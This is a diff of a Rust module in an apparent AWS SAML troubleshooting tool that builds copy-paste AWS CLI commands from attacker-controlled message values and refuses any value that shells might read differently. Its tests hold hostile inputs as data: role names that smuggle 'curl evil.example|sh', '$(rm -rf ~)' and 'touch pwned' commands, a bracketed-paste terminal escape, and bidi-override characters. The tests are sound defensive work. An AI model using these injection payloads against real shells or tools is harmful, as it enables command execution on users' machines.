@@ -1,8 +1,16 @@
 //! Next steps with the user's values filled in: AWS CLI commands, what to look for in
 //! the role's trust policy, CloudTrail lookups around the capture time.
 //!
-//! Every value taken from the message goes through [`shell_quote`], because a Role value
-//! is attacker-controlled text and the commands are meant to be pasted into a shell.
+//! The commands are meant to be pasted into a shell, and the values in them come from
+//! the message, which is attacker-controlled in every byte. So a command is offered only
+//! when every value in it has the shape AWS itself accepts ([`crate::aws::names`]: role
+//! names and paths, strict ARNs, account ids, region names, Connect instance ids), and
+//! each value is written as a word that bash, dash, zsh, fish, PowerShell and cmd all
+//! read as exactly that value ([`crate::text::shell_word`]); the command line is built in
+//! one place ([`CommandLine`]), which refuses anything else. Otherwise the step says why
+//! and shows the value [`quote`]d (invisible characters visible), without a command.
+//! `tests/hostile_outputs.rs` runs every command offered for hostile messages in bash,
+//! dash, zsh and fish and compares the arguments the `aws` program receives.
 
 use super::common::{attribute_values, iam_endpoints, sign_in_region};
 use super::context::{Context, Pack, TimeSource};
@@ -10,8 +18,8 @@ use super::select::PackChoice;
 use crate::aws::attributes::{
     PRINCIPAL_TAG_PREFIX, ROLE, SESSION_DURATION, SOURCE_IDENTITY, TRANSITIVE_TAG_KEYS,
 };
-use crate::aws::{self, Endpoint, lenient_role_value};
-use crate::text::quote;
+use crate::aws::{self, Endpoint, IamResource, lenient_role_value, names};
+use crate::text::{quote, shell_word};
 use serde::Serialize;
 
 /// One thing to do next.
@@ -19,7 +27,9 @@ use serde::Serialize;
 pub struct NextStep {
     /// One line: "Check the role's trust policy".
     pub title: String,
-    /// A command to copy, with the message's values filled in, when there is one.
+    /// A command to copy, with the message's values filled in, when there is one: only
+    /// ASCII letters, digits, spaces and `_ . : / - + = , @ * "`, read alike by every
+    /// shell.
     pub command: Option<String>,
     /// What to look for in its output.
     pub detail: String,
@@ -33,26 +43,32 @@ const ROLE_STEPS: usize = 5;
 /// events land in CloudTrail within minutes, and IdP clocks drift by a few.
 const CLOUDTRAIL_WINDOW_SECONDS: i64 = 15 * 60;
 
-/// Quotes `value` for a POSIX shell: left bare when it is only characters no shell
-/// treats specially (`[A-Za-z0-9@%+=:,./_-]`), else in single quotes with each embedded
-/// `'` written as `'\''`. Nothing inside single quotes is special to the shell, so no
-/// value can end the argument or start another command.
-pub fn shell_quote(value: &str) -> String {
-    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
-    if !value.is_empty() && value.chars().all(plain) {
-        return value.to_owned();
+/// A command line: our own words, then options whose values each pass
+/// [`shell_word`]. The only way a command of a next step is made.
+struct CommandLine(String);
+
+impl CommandLine {
+    /// Starts with `words`, our own (`aws iam get-role`), never a message's value.
+    fn new(words: &'static str) -> CommandLine {
+        CommandLine(words.to_owned())
     }
-    let mut quoted = String::with_capacity(value.len() + 2);
-    quoted.push('\'');
-    for c in value.chars() {
-        if c == '\'' {
-            quoted.push_str("'\\''");
-        } else {
-            quoted.push(c);
-        }
+
+    /// Adds `flag value`, the value as a word every shell reads alike; `None` when it
+    /// has no such word. A value that starts with `-` is written `flag="-value"`, so the
+    /// AWS CLI takes it as the flag's value, not as an option of its own.
+    fn option(mut self, flag: &'static str, value: &str) -> Option<CommandLine> {
+        let word = shell_word(value)?;
+        let separator = if value.starts_with('-') { '=' } else { ' ' };
+        self.0.push(' ');
+        self.0.push_str(flag);
+        self.0.push(separator);
+        self.0.push_str(&word);
+        Some(self)
     }
-    quoted.push('\'');
-    quoted
+
+    fn finish(self) -> String {
+        self.0
+    }
 }
 
 fn step(title: impl Into<String>, command: Option<String>, detail: impl Into<String>) -> NextStep {
@@ -76,18 +92,6 @@ pub fn suggest(context: &Context<'_>, packs: &[PackChoice]) -> Vec<NextStep> {
     steps
 }
 
-/// The time the lookups are centred on: the capture time, else the reference time.
-/// Whether a value may go into a command shown to be pasted: no control characters
-/// (a terminal escape or a line break would act when displayed or pasted) and no
-/// invisible formatting characters (bidirectional overrides make a command read
-/// differently from what runs).
-fn pasteable(value: &str) -> bool {
-    !value.chars().any(|c| {
-        c.is_control()
-            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
-    })
-}
-
 /// The time the lookups are centred on: the HAR capture time, else the time the user
 /// chose, else the message's IssueInstant (the clock says nothing about when the
 /// sign-in happened), else the reference time.
@@ -106,15 +110,34 @@ fn around(context: &Context<'_>) -> crate::timestamp::Timestamp {
         .unwrap_or(context.now())
 }
 
-fn cloudtrail(context: &Context<'_>, event: &str, region: &str) -> String {
+/// The CloudTrail lookup of `event` in `region` around the sign-in; `None` when the
+/// region is not a region name.
+fn cloudtrail(context: &Context<'_>, event: &'static str, region: &str) -> Option<String> {
+    if !names::is_region(region) {
+        return None;
+    }
     let at = around(context);
-    format!(
-        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={event} --start-time {} --end-time {} --region {}",
-        at.plus_seconds(-CLOUDTRAIL_WINDOW_SECONDS),
-        at.plus_seconds(CLOUDTRAIL_WINDOW_SECONDS),
-        shell_quote(region)
+    Some(
+        CommandLine::new("aws cloudtrail lookup-events")
+            .option(
+                "--lookup-attributes",
+                &format!("AttributeKey=EventName,AttributeValue={event}"),
+            )?
+            .option(
+                "--start-time",
+                &at.plus_seconds(-CLOUDTRAIL_WINDOW_SECONDS).to_string(),
+            )?
+            .option(
+                "--end-time",
+                &at.plus_seconds(CLOUDTRAIL_WINDOW_SECONDS).to_string(),
+            )?
+            .option("--region", region)?
+            .finish(),
     )
 }
+
+/// Why a value gets no command, in the words of a step's detail.
+const NOT_AN_IAM_ROLE_ARN: &str = "is not a role ARN IAM accepts (arn:<partition>:iam::<12-digit account>:role/<optional path/><name>, the name 1 to 64 of A-Z a-z 0-9 + = , . @ _ -, the path printable ASCII without spaces)";
 
 fn iam_steps(context: &Context<'_>, connect: bool, steps: &mut Vec<NextStep>) {
     let Some(assertion) = context.message.evaluated_assertion() else {
@@ -134,29 +157,40 @@ fn iam_steps(context: &Context<'_>, connect: bool, steps: &mut Vec<NextStep>) {
     let source_identity_sent = attribute_values(assertion, SOURCE_IDENTITY).is_some();
     let duration_sent = attribute_values(assertion, SESSION_DURATION).is_some();
     for value in &roles {
-        let (_, name, provider) = lenient_role_value(value);
+        let (role_part, name, provider) = lenient_role_value(value);
         if let Some(provider) = provider
             && providers.len() < ROLE_STEPS
             && !providers.contains(&provider)
         {
             providers.push(provider);
         }
-        let Some(name) = name else { continue };
+        let (Some(role_part), Some(name)) = (role_part, name) else {
+            continue;
+        };
         if seen_roles.contains(&name) || seen_roles.len() >= ROLE_STEPS {
             continue;
         }
         seen_roles.push(name);
-        if !pasteable(name) {
+        let strict = names::role_arn(role_part).and_then(|arn| match arn.resource {
+            IamResource::Role { name, .. } => Some(name),
+            IamResource::SamlProvider { .. } => None,
+        });
+        let get_role = strict.and_then(|name| {
+            CommandLine::new("aws iam get-role")
+                .option("--role-name", name)
+                .map(CommandLine::finish)
+        });
+        let (Some(name), Some(get_role)) = (strict, get_role) else {
             steps.push(step(
-                "Fix the role name before looking the role up",
+                "Fix the role ARN before looking the role up",
                 None,
                 format!(
-                    "The role name {} holds control or invisible characters, so no command is offered for it; correct the Role value first (see aws.role.format).",
-                    quote(name)
+                    "The role ARN {} {NOT_AN_IAM_ROLE_ARN}, so no command is offered for it; correct the Role value first (see aws.role.format).",
+                    quote(role_part)
                 ),
             ));
             continue;
-        }
+        };
         let mut actions = vec!["\"sts:AssumeRoleWithSAML\""];
         if tags_sent {
             actions.push("\"sts:TagSession\"");
@@ -168,7 +202,7 @@ fn iam_steps(context: &Context<'_>, connect: bool, steps: &mut Vec<NextStep>) {
             "In Role.AssumeRolePolicyDocument, a statement must Allow {} for Principal {{\"Federated\": {}}} with a StringEquals condition on \"SAML:aud\" listing {}.",
             actions.join(", "),
             provider.map_or_else(|| "<the SAML provider ARN>".to_owned(), quote),
-            endpoint
+            quote(&endpoint)
         );
         if tags_sent {
             detail.push_str(" The assertion sends session tags, so sts:TagSession is needed.");
@@ -180,19 +214,17 @@ fn iam_steps(context: &Context<'_>, connect: bool, steps: &mut Vec<NextStep>) {
         }
         steps.push(step(
             format!("Check the trust policy of role {name}"),
-            Some(format!(
-                "aws iam get-role --role-name {}",
-                shell_quote(name)
-            )),
+            Some(get_role),
             detail,
         ));
-        if duration_sent {
+        let max_duration = CommandLine::new("aws iam get-role")
+            .option("--role-name", name)
+            .and_then(|command| command.option("--query", "Role.MaxSessionDuration"))
+            .map(CommandLine::finish);
+        if duration_sent && let Some(max_duration) = max_duration {
             steps.push(step(
                 format!("Check the maximum session duration of role {name}"),
-                Some(format!(
-                    "aws iam get-role --role-name {} --query Role.MaxSessionDuration",
-                    shell_quote(name)
-                )),
+                Some(max_duration),
                 "The SessionDuration the assertion asks for must not exceed this number of seconds (default 3600), or AWS refuses with \"Requested DurationSeconds exceeds MaxSessionDuration set for this role\".",
             ));
         }
@@ -221,15 +253,27 @@ fn iam_steps(context: &Context<'_>, connect: bool, steps: &mut Vec<NextStep>) {
             many.join(", ")
         ),
     };
-    for provider in providers.iter().filter(|provider| pasteable(provider)) {
-        steps.push(step(
-            "Compare the SAML provider's certificate with the message's",
-            Some(format!(
-                "aws iam get-saml-provider --saml-provider-arn {}",
-                shell_quote(provider)
+    for provider in &providers {
+        let command = names::saml_provider_arn(provider).and_then(|arn| {
+            CommandLine::new("aws iam get-saml-provider")
+                .option("--saml-provider-arn", arn.text)
+                .map(CommandLine::finish)
+        });
+        match command {
+            Some(command) => steps.push(step(
+                "Compare the SAML provider's certificate with the message's",
+                Some(command),
+                certificate_detail.clone(),
             )),
-            certificate_detail.clone(),
-        ));
+            None => steps.push(step(
+                "Fix the SAML provider ARN before looking the provider up",
+                None,
+                format!(
+                    "The SAML provider ARN {} is not one IAM accepts (arn:<partition>:iam::<12-digit account>:saml-provider/<name>, the name 1 to 128 of A-Z a-z 0-9 . _ -), so no command is offered for it; correct the Role value first (see aws.role.format).",
+                    quote(provider)
+                ),
+            )),
+        }
     }
     steps.push(step(
         "List the account's SAML providers",
@@ -244,14 +288,18 @@ fn iam_steps(context: &Context<'_>, connect: bool, steps: &mut Vec<NextStep>) {
         },
     ));
     let region = sign_in_region(context).unwrap_or_else(|| aws::GLOBAL_SIGN_IN_REGION.to_owned());
-    steps.push(step(
-        "Look for the sign-in in CloudTrail",
-        Some(cloudtrail(context, "AssumeRoleWithSAML", &region)),
-        format!(
-            "AssumeRoleWithSAML events within 15 minutes of {} (run it in the account of the role); errorCode and errorMessage say why a sign-in was refused.",
-            around(context)
-        ),
-    ));
+    let lookup = cloudtrail(context, "AssumeRoleWithSAML", &region);
+    let mut detail = format!(
+        "AssumeRoleWithSAML events within 15 minutes of {} (run it in the account of the role); errorCode and errorMessage say why a sign-in was refused.",
+        around(context)
+    );
+    if lookup.is_none() {
+        detail.push_str(&format!(
+            " No command is offered: the sign-in region {} is not a region name.",
+            quote(&region)
+        ));
+    }
+    steps.push(step("Look for the sign-in in CloudTrail", lookup, detail));
     if connect {
         connect_steps(context, &roles, steps);
     }
@@ -268,21 +316,38 @@ fn connect_steps(context: &Context<'_>, roles: &[&str], steps: &mut Vec<NextStep
     else {
         return;
     };
-    let instance = format!(
-        "arn:{}:connect:{}:{}:instance/{}",
-        role_arn.partition, relay.region, role_arn.account, relay.instance_id
+    const TITLE: &str = "Check that the role may federate into the Connect instance";
+    let Some(instance) = names::connect_instance_arn(
+        role_arn.partition,
+        &relay.region,
+        role_arn.account,
+        &relay.instance_id,
+    ) else {
+        steps.push(step(
+            TITLE,
+            None,
+            format!(
+                "The role's permissions must allow connect:GetFederationToken on the instance the RelayState names; no command is offered because its instance id {} is not one Amazon Connect makes (a lowercase UUID such as 5f1e2d3c-aaaa-bbbb-cccc-123456789abc); see connect.relaystate.",
+                quote(&relay.instance_id)
+            ),
+        ));
+        return;
+    };
+    let command = CommandLine::new("aws iam simulate-principal-policy")
+        .option("--policy-source-arn", role_arn.text)
+        .and_then(|command| command.option("--action-names", "connect:GetFederationToken"))
+        .and_then(|command| command.option("--resource-arns", &format!("{instance}/user/*")))
+        .map(CommandLine::finish);
+    let mut detail = format!(
+        "The role's permissions must allow connect:GetFederationToken on {instance}/user/${{aws:userid}}; without it Connect says \"Access denied, Please contact your AWS account administrator\"."
     );
-    steps.push(step(
-        "Check that the role may federate into the Connect instance",
-        Some(format!(
-            "aws iam simulate-principal-policy --policy-source-arn {} --action-names connect:GetFederationToken --resource-arns {}",
-            shell_quote(role_arn.text),
-            shell_quote(&format!("{instance}/user/*"))
-        )),
-        format!(
-            "The role's permissions must allow connect:GetFederationToken on {instance}/user/${{aws:userid}}; without it Connect says \"Access denied, Please contact your AWS account administrator\"."
-        ),
-    ));
+    if command.is_none() {
+        detail.push_str(&format!(
+            " No command is offered: the role ARN {} has characters in its path that shells do not all read alike.",
+            quote(role_arn.text)
+        ));
+    }
+    steps.push(step(TITLE, command, detail));
 }
 
 fn identity_center_steps(context: &Context<'_>, steps: &mut Vec<NextStep>) {
@@ -315,9 +380,12 @@ fn identity_center_steps(context: &Context<'_>, steps: &mut Vec<NextStep>) {
     let Some(region) = region else {
         return;
     };
+    let Some(lookup) = cloudtrail(context, "ExternalIdPDirectoryLogin", &region) else {
+        return;
+    };
     steps.push(step(
         "Look for the sign-in in Identity Center's CloudTrail",
-        Some(cloudtrail(context, "ExternalIdPDirectoryLogin", &region)),
+        Some(lookup),
         format!(
             "ExternalIdPDirectoryLogin events within 15 minutes of {} in {region}, the Identity Center region; a failed one names the reason (user not found, NameID mismatch, signature).",
             around(context)
@@ -330,113 +398,131 @@ mod tests {
     use super::*;
     use crate::testing::{AttributeSpec, PROVIDER_ARN, ROLE_ATTRIBUTE, ResponseSpec, analyze_xml};
 
+    fn steps(spec: &ResponseSpec) -> Vec<NextStep> {
+        analyze_xml(&spec.xml()).next_steps
+    }
+
     fn commands(spec: &ResponseSpec) -> Vec<String> {
-        analyze_xml(&spec.xml())
-            .next_steps
+        steps(spec)
             .into_iter()
             .filter_map(|step| step.command)
             .collect()
     }
 
+    fn with_role(role: &str) -> ResponseSpec {
+        let value = format!("{role},{PROVIDER_ARN}");
+        ResponseSpec::default().with_attribute(AttributeSpec::new(ROLE_ATTRIBUTE, &[&value]))
+    }
+
     #[test]
-    fn quoting_survives_hostile_values() {
-        let cases = [
-            ("SamlReadOnly", "SamlReadOnly"),
+    fn command_lines_take_only_portable_values() {
+        let line = |value: &str| {
+            CommandLine::new("aws iam get-role")
+                .option("--role-name", value)
+                .map(CommandLine::finish)
+        };
+        let cases: [(&str, Option<&str>); 9] = [
             (
-                "arn:aws:iam::111122223333:saml-provider/Example.IdP_1",
-                "arn:aws:iam::111122223333:saml-provider/Example.IdP_1",
+                "SamlReadOnly",
+                Some("aws iam get-role --role-name SamlReadOnly"),
             ),
-            ("a b", "'a b'"),
-            ("a'b", "'a'\\''b'"),
-            ("$(rm -rf ~)", "'$(rm -rf ~)'"),
-            ("x; echo pwned", "'x; echo pwned'"),
-            ("", "''"),
+            ("a@b", Some("aws iam get-role --role-name \"a@b\"")),
+            ("=ls", Some("aws iam get-role --role-name \"=ls\"")),
+            ("-debug", Some("aws iam get-role --role-name=\"-debug\"")),
+            ("a,b", Some("aws iam get-role --role-name \"a,b\"")),
+            ("a b", None),
+            ("a\\", None),
+            ("$(id)", None),
+            ("R\u{1b}[201~", None),
         ];
         for (value, expected) in cases {
-            assert_eq!(shell_quote(value), expected);
+            assert_eq!(line(value).as_deref(), expected, "{value:?}");
         }
     }
 
-    /// Splits a command as a POSIX shell would for single quotes (the only quoting we
-    /// emit) and returns the words; a value that broke out would add words.
-    fn shell_words(command: &str) -> Vec<String> {
-        let mut words = Vec::new();
-        let mut word = String::new();
-        let mut in_word = false;
-        let mut quoted = false;
-        let mut chars = command.chars();
-        while let Some(c) = chars.next() {
-            match c {
-                '\'' => {
-                    quoted = !quoted;
-                    in_word = true;
-                }
-                '\\' if !quoted => {
-                    if let Some(next) = chars.next() {
-                        word.push(next);
-                    }
-                    in_word = true;
-                }
-                ' ' if !quoted => {
-                    if in_word {
-                        words.push(std::mem::take(&mut word));
-                        in_word = false;
-                    }
-                }
-                other => {
-                    word.push(other);
-                    in_word = true;
+    /// Each role ARN, and the get-role command offered for it (`None`: a step that
+    /// explains, without a command).
+    #[test]
+    fn get_role_is_offered_only_for_names_iam_accepts() {
+        let cases: [(&str, Option<&str>); 12] = [
+            (
+                "arn:aws:iam::111122223333:role/SamlReadOnly",
+                Some("aws iam get-role --role-name SamlReadOnly"),
+            ),
+            (
+                "arn:aws:iam::111122223333:role/team/$x/Ops.Admin",
+                Some("aws iam get-role --role-name Ops.Admin"),
+            ),
+            (
+                "arn:aws:iam::111122223333:role/=Admins",
+                Some("aws iam get-role --role-name \"=Admins\""),
+            ),
+            (
+                "arn:aws:iam::111122223333:role/-x",
+                Some("aws iam get-role --role-name=\"-x\""),
+            ),
+            (
+                "arn:aws:iam::111122223333:role/@a+b=c",
+                Some("aws iam get-role --role-name \"@a+b=c\""),
+            ),
+            // Fish reads `\'` inside single quotes as a quote: this one broke out.
+            ("arn:aws:iam::111122223333:role/a\\';touch pwned;#", None),
+            (
+                "arn:aws:iam::111122223333:role/R';curl evil.example|sh;echo '",
+                None,
+            ),
+            ("arn:aws:iam::111122223333:role/R\u{9b}2J", None),
+            ("arn:aws:iam::111122223333:role/R\u{202e}nimda", None),
+            ("arn:aws:iam::111122223333:role/%PATH%", None),
+            ("arn:aws:iam::111122223333:role/x{ab}", None),
+            ("arn:aws:iam::11112222333:role/R", None),
+        ];
+        for (role, expected) in cases {
+            let found = steps(&with_role(role));
+            let get_role: Vec<&str> = found
+                .iter()
+                .filter_map(|step| step.command.as_deref())
+                .filter(|command| {
+                    command.starts_with("aws iam get-role") && !command.contains("--query")
+                })
+                .collect();
+            match expected {
+                Some(command) => assert_eq!(get_role, [command], "{role:?}"),
+                None => {
+                    assert!(get_role.is_empty(), "{role:?}: {get_role:?}");
+                    let explained = found.iter().find(|step| step.command.is_none());
+                    let detail = explained.map(|step| step.detail.as_str()).unwrap_or("");
+                    assert!(
+                        detail.contains(&quote(role)) && detail.contains("no command"),
+                        "{role:?}: {found:#?}"
+                    );
                 }
             }
         }
-        if in_word {
-            words.push(word);
-        }
-        words
     }
 
     #[test]
-    fn a_hostile_role_name_stays_one_argument() {
-        let hostile = "R';curl evil.example|sh;echo '";
-        let value = format!("arn:aws:iam::111122223333:role/{hostile},{PROVIDER_ARN}");
-        let spec =
-            ResponseSpec::default().with_attribute(AttributeSpec::new(ROLE_ATTRIBUTE, &[&value]));
-        let commands = commands(&spec);
-        let get_role = commands
-            .iter()
-            .find(|command| command.starts_with("aws iam get-role"))
-            .expect("a get-role step");
-        let words = shell_words(get_role);
-        assert_eq!(
-            words,
-            ["aws", "iam", "get-role", "--role-name", hostile],
-            "{get_role}"
-        );
-    }
-
-    #[test]
-    fn control_characters_never_reach_a_command() {
-        for hostile in ["R\u{9b}2J", "R\nrm", "R\u{85}x", "R\u{202e}nimda"] {
-            let value = format!("arn:aws:iam::111122223333:role/{hostile},{PROVIDER_ARN}");
-            let spec = ResponseSpec::default()
-                .with_attribute(AttributeSpec::new(ROLE_ATTRIBUTE, &[&value]));
-            let message = analyze_xml(&spec.xml());
-            assert!(
-                message.next_steps.iter().all(|step| step
-                    .command
-                    .as_deref()
-                    .is_none_or(|command| !command.contains(hostile))),
-                "{hostile:?}: {:#?}",
-                message.next_steps
-            );
-            assert!(
-                message
-                    .next_steps
-                    .iter()
-                    .any(|step| step.command.is_none()
-                        && step.detail.contains("control or invisible")),
-                "{hostile:?}"
-            );
+    fn no_command_carries_a_control_or_invisible_character() {
+        for hostile in [
+            "R\u{9b}2J",
+            "R\nrm",
+            "R\u{85}x",
+            "R\u{202e}nimda",
+            "R\u{2028}",
+        ] {
+            let role = format!("arn:aws:iam::111122223333:role/{hostile}");
+            for step in steps(&with_role(&role)) {
+                let command = step.command.unwrap_or_default();
+                assert!(
+                    !command.chars().any(crate::text::is_hidden_or_control),
+                    "{hostile:?}: {command:?}"
+                );
+                assert!(
+                    !step.detail.chars().any(crate::text::is_hidden_or_control),
+                    "{hostile:?}: {:?}",
+                    step.detail
+                );
+            }
         }
     }
 
@@ -467,11 +553,72 @@ mod tests {
             "aws iam get-role --role-name SamlReadOnly --query Role.MaxSessionDuration",
             "aws iam get-saml-provider --saml-provider-arn arn:aws:iam::111122223333:saml-provider/ExampleIdP",
             "aws iam list-saml-providers",
-            "AttributeValue=AssumeRoleWithSAML --start-time 2024-05-01T11:45:00Z --end-time 2024-05-01T12:15:00Z --region us-east-1",
+            "aws cloudtrail lookup-events --lookup-attributes \"AttributeKey=EventName,AttributeValue=AssumeRoleWithSAML\" --start-time \"2024-05-01T11:45:00Z\" --end-time \"2024-05-01T12:15:00Z\" --region us-east-1",
         ] {
             assert!(text.contains(expected), "{expected:?} not in\n{text}");
         }
         assert!(!text.contains("sts:SetSourceIdentity"), "{text}");
+    }
+
+    /// The Connect step for a Connect sign-in posted with `relay_state`.
+    fn connect_step(relay_state: &str) -> NextStep {
+        use base64::Engine;
+        let xml = ResponseSpec::default()
+            .without_attribute(crate::aws::attributes::SESSION_DURATION)
+            .xml();
+        let percent = |text: &str| -> String {
+            text.bytes()
+                .map(|b| match b {
+                    b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
+                        char::from(b).to_string()
+                    }
+                    other => format!("%{other:02X}"),
+                })
+                .collect()
+        };
+        let body = format!(
+            "SAMLResponse={}&RelayState={}",
+            percent(&base64::engine::general_purpose::STANDARD.encode(xml)),
+            percent(relay_state)
+        );
+        let report = crate::testing::analyze_texts(&[&body], &Default::default());
+        report.messages[0]
+            .next_steps
+            .iter()
+            .find(|step| step.title.contains("Connect"))
+            .cloned()
+            .unwrap_or_else(|| panic!("no Connect step for {relay_state:?}"))
+    }
+
+    #[test]
+    fn connect_steps_need_an_instance_id_connect_makes() {
+        let federate = "https://eu-west-2.console.aws.amazon.com/connect/federate/";
+        let good = connect_step(&format!(
+            "{federate}5f1e2d3c-aaaa-bbbb-cccc-123456789abc?destination=%2Fccp-v2"
+        ));
+        assert_eq!(
+            good.command.as_deref(),
+            Some(
+                "aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::111122223333:role/SamlReadOnly --action-names connect:GetFederationToken --resource-arns \"arn:aws:connect:eu-west-2:111122223333:instance/5f1e2d3c-aaaa-bbbb-cccc-123456789abc/user/*\""
+            )
+        );
+        // This one ended a bracketed paste, erased the line and ran `touch` in bash.
+        for instance in [
+            "x\u{1b}[201~\u{15}touch pwned\n",
+            "x';touch pwned;'",
+            "5F1E2D3C-AAAA-BBBB-CCCC-123456789ABC",
+        ] {
+            let hostile = connect_step(&format!("{federate}{instance}"));
+            assert_eq!(hostile.command, None, "{instance:?}");
+            assert!(hostile.detail.contains(&quote(instance)), "{hostile:#?}");
+            assert!(
+                !hostile
+                    .detail
+                    .chars()
+                    .any(crate::text::is_hidden_or_control),
+                "{hostile:#?}"
+            );
+        }
     }
 
     #[test]
